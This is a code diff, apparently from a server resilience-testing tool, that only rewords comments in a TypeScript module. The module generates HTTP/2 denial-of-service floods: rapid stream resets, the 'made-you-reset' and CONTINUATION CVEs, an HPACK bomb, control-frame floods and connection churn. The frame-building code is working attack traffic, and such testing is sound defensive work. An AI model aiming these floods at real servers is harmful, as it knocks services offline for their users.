@@ -1,4 +1,7 @@
-/** What a hostile client sends on one connection, without end. HTTP/2 by hand (RFC 9113): no library sends this. */
+/**
+ * Endless hostile traffic for one connection. HTTP/2 frames are built by hand (RFC 9113), because no library sends
+ * them.
+ */
 
 const HEADERS = 1;
 const PRIORITY = 2;
@@ -10,7 +13,7 @@ const CONTINUATION = 9;
 const END_STREAM = 1;
 const END_HEADERS = 4;
 const CANCEL = 8;
-/** Frames of one write. */
+/** Number of frames in one write. */
 const BATCH = 1000;
 
 export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
@@ -29,7 +32,7 @@ export function number(value: number): Buffer {
 }
 
 const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
-/** GET, https, a path and an authority, as HPACK has them. */
+/** HPACK encoding of a GET request with scheme https, a path and an authority. */
 const get = (path: string): Buffer =>
   Buffer.concat([Buffer.from([0x82, 0x87, 0x04]), text(path), Buffer.from([0x01]), text('x')]);
 const LIST = get('/api/v1/pods');
@@ -40,11 +43,11 @@ const batch = (make: (at: number) => Buffer): Buffer =>
 export interface FloodStream {
   readonly alpn: 'h2' | 'http/1.1';
   readonly head: Buffer;
-  /** What is sent next; undefined: nothing more. */
+  /** Next bytes to send; undefined at the end. */
   readonly next: () => Buffer | undefined;
 }
 
-/** Numbers of new streams. */
+/** Returns IDs of new streams. */
 function streams(): () => number {
   let last = -1;
   return () => {
@@ -71,7 +74,7 @@ const FLOODS = {
       }),
     );
   },
-  /** CVE-2025-8671: the server is made to reset the stream, by a window update of zero. */
+  /** CVE-2025-8671: a window update of zero makes the server reset the stream. */
   'made-you-reset': () => {
     const id = streams();
     return h2(() =>
@@ -88,13 +91,13 @@ const FLOODS = {
     const id = streams();
     return h2(() => batch(() => frame(HEADERS, END_STREAM | END_HEADERS, id(), LIST)));
   },
-  /** CVE-2024-27316 and others. */
+  /** CVE-2024-27316 and similar. */
   continuation: () => h2(() => batch(() => frame(CONTINUATION, 0, 1)), Buffer.concat([PREFACE, CONTINUED])),
   settings: () => repeated(batch(() => frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 4]), number(65_535)])))),
   ping: () => repeated(batch(() => frame(PING, 0, 0, Buffer.alloc(8)))),
   priority: () => repeated(batch((at) => frame(PRIORITY, 0, at * 2 + 1, Buffer.alloc(5)))),
   'window-update': () => repeated(batch(() => frame(WINDOW_UPDATE, 0, 0, number(1)))),
-  /** An entry of the table that is as large as can be, and a block that refers to it as often as fits. */
+  /** Adds the largest possible entry to the HPACK table and refers to it as often as fits in a block. */
   'hpack-bomb': () => {
     const id = streams();
     const large = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa0, 0x1e]), Buffer.alloc(3999, 0x78)]);
@@ -106,9 +109,9 @@ const FLOODS = {
     const bytes = Buffer.from('GET /api/v1/pods HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(BATCH));
     return { alpn: 'http/1.1' as const, head: Buffer.alloc(0), next: () => bytes };
   },
-  /** Handshakes and nothing else. */
+  /** Handshakes only. */
   churn: () => h2(() => undefined, Buffer.alloc(0)),
-  /** Connections on which nothing is said after the handshake, and which are not opened again. */
+  /** Connections without any data after the handshake. They are not reopened. */
   idle: () => h2(() => undefined, Buffer.alloc(0)),
 } satisfies Record<string, () => FloodStream>;
 
